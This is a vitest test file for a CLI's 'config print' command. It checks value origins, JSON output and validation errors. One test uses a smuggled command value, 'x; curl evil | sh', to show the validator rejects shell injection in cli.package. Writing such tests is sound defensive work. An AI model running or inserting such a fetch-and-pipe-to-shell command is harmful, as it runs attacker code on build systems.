import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { isolatedEnv, runBin } from '../helpers/run-bin.js';
import { testdir, writeTree } from '../helpers/testdir.js';

describe('platform config print', () => {
  it('shows each value with the file it came from', async () => {
    const env = await isolatedEnv();
    await writeTree(path.join(env.XDG_CONFIG_HOME!, 'platform'), {
      'config.json': '{"rules":{"template.outdated":"error"}}',
    });
    const repo = await testdir({
      '.platformrc.yaml':
        'catalogs: [builtin, ./templates]\ntelemetry:\n  enabled: false\ncli:\n  package: "@acme/platform-cli"\n',
      'templates/.keep': '',
    });
    const text = await runBin('platform', ['config', 'print'], { cwd: repo, env });
    expect(text.exitCode, text.stderr).toBe(0);
    expect(text.stdout).toContain(
      `catalogs: builtin, ./templates  # ${path.join(repo, '.platformrc.yaml')}`,
    );
    expect(text.stdout).toContain(
      `template.outdated: error  # ${path.join(env.XDG_CONFIG_HOME!, 'platform/config.json')}`,
    );
    expect(text.stdout).toContain('enabled: false');
    expect(text.stdout).toContain(
      `package: @acme/platform-cli  # ${path.join(repo, '.platformrc.yaml')}`,
    );
    const json = JSON.parse(
      (await runBin('platform', ['config', 'print', '--json'], { cwd: repo, env })).stdout,
    );
    expect(json.config).toEqual({
      catalogs: ['builtin', './templates'],
      rules: { 'template.outdated': 'error' },
      telemetry: { enabled: false },
      cli: { package: '@acme/platform-cli' },
    });
    expect(json.origins['telemetry.enabled']).toBe(path.join(repo, '.platformrc.yaml'));
  });

  it('exits 2 naming the file and key of an invalid value', async () => {
    const repo = await testdir({ '.platformrc.json': '{"telemetry":{"endpoint":"ftp://x"}}' });
    const run = await runBin('platform', ['config', 'print'], { cwd: repo });
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain(`Invalid configuration in ${path.join(repo, '.platformrc.json')}`);
    expect(run.stderr).toContain('telemetry.endpoint: must be an http(s) URL');
  });

  it('refuses a cli.package that is not an npm package name, since CI runs it in a shell', async () => {
    const repo = await testdir({ '.platformrc.json': '{"cli":{"package":"x; curl evil | sh"}}' });
    const run = await runBin('platform', ['config', 'print'], { cwd: repo });
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain('cli.package: must be an npm package name');
  });
});
